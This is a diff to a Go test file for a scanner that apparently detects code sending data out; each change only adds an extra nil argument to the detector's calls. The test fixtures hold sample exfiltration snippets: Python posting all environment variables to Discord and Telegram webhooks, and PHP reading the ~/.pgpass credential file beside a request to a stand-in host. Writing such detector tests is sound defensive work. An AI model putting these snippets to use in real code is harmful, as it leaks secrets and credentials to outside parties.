@@ -62,7 +62,7 @@ func TestFind(t *testing.T) {
 	for name, c := range findCases() {
 		t.Run(name, func(t *testing.T) {
 			t.Parallel()
-			got := shownOf(Find(c.texts, nil, func(file, why string) { t.Errorf("%s: %s", file, why) }))
+			got := shownOf(Find(c.texts, nil, nil, func(file, why string) { t.Errorf("%s: %s", file, why) }))
 			if got != c.want {
 				t.Errorf("found %q, want %q", got, c.want)
 			}
@@ -82,7 +82,7 @@ func FuzzFind(f *testing.F) {
 			return
 		}
 		find := func() []Beside {
-			return Find([]Text{{chain.Text{File: "a", Source: source, Start: document.Position{Line: 1, Column: 1}}, Family(family)}}, nil, func(string, string) {})
+			return Find([]Text{{chain.Text{File: "a", Source: source, Start: document.Position{Line: 1, Column: 1}}, Family(family)}}, nil, nil, func(string, string) {})
 		}
 		found := find()
 		for _, one := range found {
@@ -102,7 +102,7 @@ func FuzzFind(f *testing.F) {
 func TestHook(t *testing.T) {
 	t.Parallel()
 	for address, want := range map[string]bool{"https://discord.com/api/webhooks/118443029117/abc": true, "https://api.telegram.org/bot123:ab": true, "https://discord.com/api/v10/users": false} {
-		got := Find([]Text{text("a.py", "import os, requests\nrequests.post('"+address+"', json=dict(os.environ))\n")}, nil, nil)
+		got := Find([]Text{text("a.py", "import os, requests\nrequests.post('"+address+"', json=dict(os.environ))\n")}, nil, nil, nil)
 		if len(got) != 1 || got[0].Send.Hook != want {
 			t.Errorf("%s: %+v, want hook %t", address, got, want)
 		}
@@ -119,7 +119,7 @@ func TestTime(t *testing.T) {
 	}
 	b.WriteString("requests.post('https://x.example/', data=f0(1, 2))\n" + strings.Repeat("(", 5000) + strings.Repeat("[\"", 5000))
 	begin := time.Now()
-	Find([]Text{text("a.py", b.String())}, nil, func(string, string) {})
+	Find([]Text{text("a.py", b.String())}, nil, nil, func(string, string) {})
 	if took := time.Since(begin); took > 20*time.Second {
 		t.Errorf("it took %s", took)
 	}
@@ -149,7 +149,7 @@ func TestTables(t *testing.T) {
 func TestPlainEval(t *testing.T) {
 	t.Parallel()
 	for code, want := range map[string]bool{"eval('return 1;');": true, "eval($code);": false, "eval('f($x);');": false, "eval(\"return $x;\");": false} {
-		got := Find([]Text{text("a.php", "<?php\n$p = file(getenv('HOME') . '/.pgpass');\n$n = str_word_count(file_get_contents('notes.txt'));\nfile_get_contents('https://x.example/?n=' . $n);\n"+code+"\n")}, nil, nil)
+		got := Find([]Text{text("a.php", "<?php\n$p = file(getenv('HOME') . '/.pgpass');\n$n = str_word_count(file_get_contents('notes.txt'));\nfile_get_contents('https://x.example/?n=' . $n);\n"+code+"\n")}, nil, nil, nil)
 		apart := len(got) == 0 || got[0].Apart
 		if apart != want {
 			t.Errorf("%s: %+v, want apart %t", code, got, want)
